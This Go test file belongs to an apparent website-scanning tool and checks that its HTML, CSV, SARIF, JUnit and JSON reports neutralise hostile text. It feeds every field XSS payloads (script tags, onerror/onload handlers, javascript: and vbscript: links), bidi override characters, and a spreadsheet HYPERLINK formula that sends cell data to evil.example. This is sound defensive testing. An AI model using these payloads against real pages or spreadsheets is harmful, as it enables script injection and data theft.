package report

import (
	"bytes"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"visite/schema"
)

func TestHostileTextIsHarmless(t *testing.T) {
	long := strings.Repeat("W", 10_000)
	const rude = "\u202E</title></style><script>alert(1)</script><img src=x onerror=alert(1)>\u2066\"'"
	scan, src := sampleScan(), sample()
	scan.Contact, scan.Basis.Party, scan.BrowserVersion, scan.WaitingFor, scan.State = rude, rude+long, rude, rude, schema.ScanRunning
	src.hosts[0].Host = rude + long
	src.pages[0].Title, src.pages[0].URL = rude+long, sampleSite+"/"+rude+long
	src.pages[1].URL = "javascript:alert(1)"
	src.pages[2].Reason, src.pages[2].Outcome = rude, rude
	src.pages[5].Notes = []string{rude}
	f := &src.pages[0].Findings[0]
	f.Rule, f.Selector, f.Detail, f.Help, f.Category, f.Severity = rude, rude+long, rude+long, rude+long, rude, rude
	f.WCAG = []string{rude}
	src.links[1].Link.URL, src.links[1].Link.FoundOn = "data:text/html,"+rude, []string{"vbscript:" + rude}
	page := htmlOf(t, src, scan, German)
	harmless(t, page, 310)
}

// harmless fails where a page for people holds more than text of what it was told, or
// more than so many characters in one place.
func harmless(t *testing.T, page string, most int) {
	t.Helper()
	for n := range parse(t, page).Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "img", "iframe"}, n.Data) {
			t.Errorf("a %s got in", n.Data)
		}
		for _, a := range n.Attr {
			scheme, _, _ := strings.Cut(a.Val, ":")
			if strings.HasPrefix(a.Key, "on") || (a.Key == "href" && !strings.HasPrefix(a.Val, "#") && a.Val != "data:," && scheme != "http" && scheme != "https") {
				t.Errorf("%s got the attribute %s=%.60q", n.Data, a.Key, a.Val)
			}
		}
		if n.Data == "bdi" && len([]rune(text(n))) > most {
			t.Errorf("%d characters in one place", len([]rune(text(n))))
		}
	}
	for _, r := range []rune{'\u202E', '\u2066'} {
		if strings.ContainsRune(text(parse(t, page)), r) {
			t.Errorf("%U reached the reader", r)
		}
	}
	if want := strings.Repeat("W", most+190); strings.Contains(text(parse(t, page)), want) {
		t.Error("a very long word is not cut")
	}
}

// spoil writes text into everything below a pointer that can hold any.
func spoil(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			spoil(v.Elem(), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() && v.Type() != reflect.TypeFor[time.Time]() {
				spoil(v.Field(i), text)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			spoil(v.Index(i), text)
		}
	case reflect.Map:
		if v.Len() > 0 && v.Type().Key().Kind() == reflect.String && v.Type().Elem().Kind() == reflect.String {
			v.SetMapIndex(reflect.ValueOf(text).Convert(v.Type().Key()), reflect.ValueOf(text).Convert(v.Type().Elem()))
		}
	case reflect.String:
		if v.CanSet() {
			v.SetString(text)
		}
	}
}

// spoiled is a scan in which every text, that of closed lists too, is hostile and long.
func spoiled(text string) (*recorded, schema.Scan) {
	src, scan := sample(), sampleScan()
	src.states = schema.ItemStates{}
	for _, p := range src.pages[:3] {
		for _, f := range p.Findings {
			item := schema.Fingerprint(f, p.URL)
			src.states[item] = schema.ItemDecision{Item: item, State: schema.ItemIgnored, Reason: text}
		}
	}
	state := scan.State
	for _, v := range []any{&scan, &src.pages, &src.links, &src.hosts, &src.brisk, &src.security, &src.scores, &src.former} {
		spoil(reflect.ValueOf(v).Elem(), text)
	}
	for i := range src.pages { // an outcome that is none would leave nothing to tell
		if i%2 == 0 {
			src.pages[i].Outcome = schema.OutcomeAnalysed
		}
	}
	scan.State = state
	return src, scan
}

// Whatever field it stands in, hostile text is text, and short, in every format.
func TestEveryFieldMayBeHostile(t *testing.T) {
	for name, text := range map[string]string{
		"markup":     rude + "<img src=x onerror=alert(1)>" + strings.Repeat("W", 5000),
		"a formula":  "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" + strings.Repeat("W", 5000),
		"a scheme":   "javascript:alert(1)//" + strings.Repeat("W", 5000),
		"not UTF-8":  "\xff\xfe<b>\xc3" + strings.Repeat("W", 5000),
		"an address": sampleSite + "/\"><svg onload=alert(1)>" + strings.Repeat("W", 5000),
	} {
		t.Run(name, func(t *testing.T) {
			src, scan := spoiled(text)
			// The longest are an operator's and a customer's own words.
			harmless(t, htmlOf(t, src, scan, Spanish), schema.BriskByMax+schema.BriskReasonMax+150)
			for _, row := range table(t, rendered(t, src, scan, FormatCSV)) {
				inert(t, row)
			}
			sarifOf(t, rendered(t, src, scan, FormatSARIF))
			junitOf(t, rendered(t, src, scan, FormatJUnit))
			for _, f := range []Format{FormatEARL, FormatJSON} {
				if raw := rendered(t, src, scan, f); !json.Valid(raw) || bytes.Contains(raw, []byte("<script")) || bytes.Contains(raw, []byte("<svg")) {
					t.Errorf("%s is not valid, or holds markup", f)
				}
			}
		})
	}
}
